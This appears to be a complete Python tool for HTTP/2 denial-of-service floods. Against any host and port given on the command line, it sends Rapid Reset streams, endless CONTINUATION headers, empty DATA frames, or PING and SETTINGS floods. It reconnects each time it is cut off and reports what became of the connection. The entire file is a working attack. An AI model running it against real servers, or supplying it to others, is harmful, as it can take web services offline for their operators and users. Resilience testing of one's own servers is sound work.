"""Floods of HTTP/2 frames: floods.py HOST:PORT KIND SECONDS. Prints what became of the connection."""

import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
# Indices of HPACK's static table: the method, http, /; and the authority as a literal.
GET, POST = b"\x82", b"\x83"
REST = b"\x86\x84\x41\x04test"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset():
    """Streams that are opened and cancelled at once."""
    stream = 1
    while True:
        block = []
        for _ in range(50):
            block.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + REST))
            block.append(frame(RST_STREAM, 0, stream, CANCEL))
            stream += 2
        yield b"".join(block)


def continuation():
    """A head that never ends."""
    yield frame(HEADERS, END_STREAM, 1, GET + REST)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 50


def empty_data():
    """A body of nothing, without end."""
    yield frame(HEADERS, END_HEADERS, 1, POST + REST)
    while True:
        yield frame(DATA, 0, 1) * 50


def ping():
    """Pings, each of which wants an answer."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 50


def settings():
    """Settings, each of which wants to be acknowledged."""
    while True:
        yield frame(SETTINGS, 0, 0) * 50


def flood(address, blocks, seconds):
    """Sends the blocks; how long, how many bytes, and how it ended."""
    connection = socket.create_connection(address)
    connection.settimeout(1)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    begun, sent, heard = time.monotonic(), 0, b""
    ended = "it was borne"
    for block in blocks:
        if time.monotonic() - begun > seconds:
            break
        try:
            connection.sendall(block)
            sent += len(block)
            connection.setblocking(False)
            try:
                heard = (heard + connection.recv(1 << 16))[-65536:]
            except BlockingIOError:
                pass
            finally:
                connection.settimeout(1)
        except OSError:
            ended = "it was cut off"
            break
    took = time.monotonic() - begun
    try:
        while chunk := connection.recv(1 << 16):
            heard = (heard + chunk)[-65536:]
    except OSError:
        pass
    return took, sent, ended, heard


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    kind, seconds = sys.argv[2], float(sys.argv[3])
    blocks = {"rapid_reset": rapid_reset, "continuation": continuation, "empty_data": empty_data,
              "ping": ping, "settings": settings}[kind]
    end, connections, most, total, ended = time.monotonic() + seconds, 0, 0.0, 0, ""
    # Whoever is cut off comes again.
    while (left := end - time.monotonic()) > 0:
        try:
            took, sent, ended, heard = flood((host, int(port)), blocks(), left)
        except OSError as error:
            ended = f"it was refused: {error}"
            continue
        connections, most, total = connections + 1, max(most, took), total + sent
        goaway = struct.pack(">B", GOAWAY) + b"\x00\x00\x00\x00\x00"
        place = heard.find(goaway)
        if place >= 0:
            code = heard[place + 10:place + 14]
            ended += f" with GOAWAY {struct.unpack('>I', code)[0]}" if len(code) == 4 else ""
    print(f"{connections} connections of at most {most:.2f} s, {total >> 10} KiB; the last: {ended}")


main()
